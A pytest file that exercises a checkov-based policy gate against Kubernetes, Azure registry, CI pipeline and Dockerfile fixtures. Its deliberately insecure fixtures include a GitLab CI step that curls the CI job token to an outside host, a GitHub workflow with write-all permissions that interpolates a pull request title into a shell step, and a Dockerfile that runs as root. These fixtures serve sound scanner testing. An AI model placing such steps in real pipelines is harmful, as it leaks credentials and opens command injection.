"""sahab's own checkov checks (policies/checkov) and the engine's mapping, through the real checkov.

One checkov run (one pre-forked checkov: a Kubernetes shard and the project-files scan) over a
plan with a passing and a failing object for each check, and a project folder with a GitHub
Actions workflow, a GitLab CI file and a Dockerfile; several assertions share it.
"""
from __future__ import annotations

from typing import Dict, List

import pytest

from sahab.gate.checkov.engine import scan, to_findings
from sahab.gate.checkov.manifests import build_inputs
from sahab.gate.findings import Finding

ECR = "123456789012.dkr.ecr.me-central-1.amazonaws.com/"
GPU_TOLERATION = {"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}

WORKFLOW = """name: ci
on: [push, pull_request]
permissions: write-all
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: echo "${{ github.event.pull_request.title }}"
"""
GITLAB = """stages: [build]
build:
  stage: build
  script:
    - curl -d "$CI_JOB_TOKEN" https://example.com
"""
DOCKERFILE = "FROM python:3.12-slim\nRUN pip install mlflow\nUSER root\n"


def _gpu(k8s, logical: str, resources: Dict, tolerations=None):
    container = {"name": "train", "image": ECR + "train:1.0", "resources": resources}
    extra = {"tolerations": tolerations} if tolerations is not None else {}
    return k8s["deployment"](logical, "ml", {"app": logical}, [container], **extra)


def _image(k8s, logical: str, image):
    return k8s["deployment"](logical, "apps", {"app": logical}, [{"name": "c", "image": image}])


def _plan(k8s) -> Dict:
    resource = k8s["resource"]
    gpu = {"limits": {"nvidia.com/gpu": 1}}
    resources: List[Dict] = [
        _gpu(k8s, "gpu-ok", gpu, [GPU_TOLERATION]),
        _gpu(k8s, "gpu-tolerate-all", gpu, [{"operator": "Exists"}]),
        _gpu(k8s, "gpu-no-toleration", gpu),
        _gpu(k8s, "gpu-wrong-effect", gpu, [dict(GPU_TOLERATION, effect="NoExecute")]),
        _gpu(k8s, "gpu-request-only", {"requests": {"nvidia.com/gpu": 1}}, [GPU_TOLERATION]),
        _gpu(k8s, "cpu-only", {"limits": {"cpu": "1"}}),
        _image(k8s, "ecr-uae", ECR + "app:1.0"),
        _image(k8s, "ecr-dualstack", "123456789012.dkr-ecr.me-central-1.on.aws/app:1.0"),
        _image(k8s, "ecr-virginia", "123456789012.dkr.ecr.us-east-1.amazonaws.com/app:1.0"),
        _image(k8s, "ecr-public", "public.ecr.aws/nginx/nginx:1.27"),
        _image(k8s, "docker-hub", "nginx:1.27"),
        _image(k8s, "acr-uae", "sahabuae.azurecr.io/app:1.0"),
        _image(k8s, "acr-elsewhere", "sahabeu.azurecr.io/app:1.0"),
        _image(k8s, "image-unknown", {"$unknown": True}),
        k8s["deployment"]("host-path", "apps", {"app": "hp"}, [{"name": "c", "image": ECR + "a:1"}],
                          volumes=[{"name": "data", "hostPath": {"path": "/var/data"}}]),
        k8s["deployment"]("empty-dir", "apps", {"app": "ed"}, [{"name": "c", "image": ECR + "a:1"}],
                          volumes=[{"name": "data", "emptyDir": {}}]),
        resource("PersistentVolume", "v1", "host-pv", {"metadata": {"name": "host-pv"},
                                                       "spec": {"hostPath": {"path": "/mnt"}}}),
        k8s["deployment"]("spec-unknown", "apps", {"app": "su"}, {"$unknown": True}),
        k8s["deployment"]("flag-unknown", "apps", {"app": "fu"}, [{
            "name": "c", "image": ECR + "a:1",
            "securityContext": {"privileged": {"$unknown": True}, "allowPrivilegeEscalation": False}}]),
        # an Azure Container Registry the plan creates in the UAE, and one geo-replicated out of it
        {"urn": "urn:pulumi:dev::checkov-test::azure-native:containerregistry:Registry::uae", "custom": True,
         "type": "azure-native:containerregistry:Registry", "mode": "create", "region": "uaenorth",
         "inputs": {"registryName": "sahabuae", "location": "uaenorth"}},
        {"urn": "urn:pulumi:dev::checkov-test::azure-native:containerregistry:Registry::eu", "custom": True,
         "type": "azure-native:containerregistry:Registry", "mode": "create", "region": "uaenorth",
         "inputs": {"registryName": "sahabeu", "location": "uaenorth"}},
        {"urn": "urn:pulumi:dev::checkov-test::azure-native:containerregistry:Replication::eu", "custom": True,
         "type": "azure-native:containerregistry:Replication", "mode": "create", "region": "westeurope",
         "inputs": {"registryName": "sahabeu", "location": "westeurope"}},
    ]
    return {"resources": resources}


@pytest.fixture(scope="module")
def scanned(checkov_available, k8s, tmp_path_factory):
    project = tmp_path_factory.mktemp("project")
    (project / "pipelines" / "github").mkdir(parents=True)
    (project / "pipelines" / "github" / "ci.yml").write_text(WORKFLOW)
    (project / "pipelines" / "gitlab").mkdir(parents=True)
    (project / "pipelines" / "gitlab" / "build.gitlab-ci.yml").write_text(GITLAB)
    (project / "pipelines" / "README.yaml").write_text("just: data\n")
    (project / "pipelines" / "gitlab" / "broken.gitlab-ci.yml").write_text("build: [\n")
    (project / "services" / "api").mkdir(parents=True)
    (project / "services" / "api" / "Dockerfile").write_text(DOCKERFILE)
    (project / ".venv" / "lib").mkdir(parents=True)
    (project / ".venv" / "lib" / "Dockerfile").write_text("FROM scratch\n")
    inputs = build_inputs(_plan(k8s), project)
    outcome = scan(inputs, workers=2, use_cache=False, scratch=tmp_path_factory.mktemp("scan"))
    return inputs, outcome, to_findings(outcome, inputs)


def _by(findings: List[Finding], rule: str) -> Dict[str, Finding]:
    return {f.urn.rsplit("::", 1)[-1] if f.urn.startswith("urn:") else f.urn: f for f in findings if f.rule_id == rule}


def test_gpu_workloads_tolerate_the_taint_and_set_limits(scanned):
    _, _, findings = scanned
    failing = _by(findings, "CKV_SAHAB_1")
    assert set(failing) == {"gpu-no-toleration", "gpu-wrong-effect", "gpu-request-only"}
    # A convention of sahab's GPU pools: advisory by default, never blocking a third-party program.
    assert all(f.status == "violation" and f.enforcement == "advisory" and f.severity == "medium" for f in failing.values())
    assert all("nvidia.com/gpu:NoSchedule taint" in f.remediation for f in failing.values())


def test_images_come_from_in_region_registries(scanned):
    inputs, _, findings = scanned
    assert inputs.acr_registries == ("sahabuae.azurecr.io",)
    failing = _by(findings, "CKV_SAHAB_2")
    assert {k for k, f in failing.items() if f.status == "violation" and k.startswith(("ecr", "acr", "docker"))} == {
        "ecr-virginia", "ecr-public", "docker-hub", "acr-elsewhere"}
    unknown = failing["image-unknown"]
    assert unknown.status == "deferred" and "spec/template/spec/containers/0/image" in unknown.message
    assert failing["docker-hub"].severity == "high" and failing["docker-hub"].enforcement == "mandatory"


def test_host_path_volumes_are_refused(scanned):
    _, _, findings = scanned
    failing = _by(findings, "CKV_SAHAB_3")
    assert {"host-path", "host-pv"} <= set(failing) and "empty-dir" not in failing


def test_unknown_values_defer_instead_of_failing(scanned):
    _, _, findings = scanned
    # checkov's own "image tag" check reads the unknown image: deferred, not a violation
    tag = _by(findings, "CKV_K8S_14")["image-unknown"]
    assert tag.status == "deferred"
    # a flag unknown before deploy: whatever checkov made of the placeholder, it is deferred
    assert _by(findings, "CKV_K8S_16")["flag-unknown"].status == "deferred"
    assert "CKV_K8S_20" not in {f.rule_id for f in findings if f.urn.endswith("::flag-unknown")}
    # an object whose spec is unknown is not scanned at all, and says so
    unknown = _by(findings, "CKV_SAHAB_UNKNOWN")
    assert set(unknown) == {"spec-unknown"} and unknown["spec-unknown"].status == "deferred"
    assert not [f for f in findings if f.urn.endswith("::spec-unknown") and f.rule_id != "CKV_SAHAB_UNKNOWN"]


def test_pipelines_and_dockerfiles_are_scanned_by_file(scanned):
    _, _, findings = scanned
    by_file = {(f.rule_id, f.urn) for f in findings if f.urn.startswith("file:")}
    assert ("CKV2_GHA_1", "file:pipelines/github/ci.yml") in by_file
    assert ("CKV_GHA_2", "file:pipelines/github/ci.yml") in by_file
    assert ("CKV_GITLABCI_1", "file:pipelines/gitlab/build.gitlab-ci.yml") in by_file
    assert ("CKV_DOCKER_8", "file:services/api/Dockerfile") in by_file
    assert not any(".venv" in urn or "README" in urn for _, urn in by_file)
    broken = [f for f in findings if f.rule_id == "CKV_SAHAB_PARSE"]
    assert [(f.urn, f.status) for f in broken] == [("file:pipelines/gitlab/broken.gitlab-ci.yml", "unchecked")]
    docker = [f for f in findings if f.rule_id == "CKV_DOCKER_8"][0]
    assert docker.file == "services/api/Dockerfile" and docker.resource_type == "dockerfile"
    assert docker.enforcement == "mandatory" and docker.remediation


def test_enforcement_is_configurable(scanned):
    inputs, outcome, findings = scanned
    advisory = {f.rule_id for f in findings if f.enforcement == "advisory"}
    assert "CKV_K8S_8" in advisory and "CKV_SAHAB_2" not in advisory
    custom = to_findings(outcome, inputs, mandatory=["CKV_K8S_8"])
    assert {f.rule_id for f in custom if f.enforcement == "mandatory"} == {"CKV_K8S_8"}
    assert all(f.enforcement == "advisory" for f in to_findings(outcome, inputs, advisory_only=True))
    assert all(f.engine == "checkov" and f.title for f in findings)
    assert all(f.urn.startswith(("urn:pulumi:", "file:")) for f in findings)
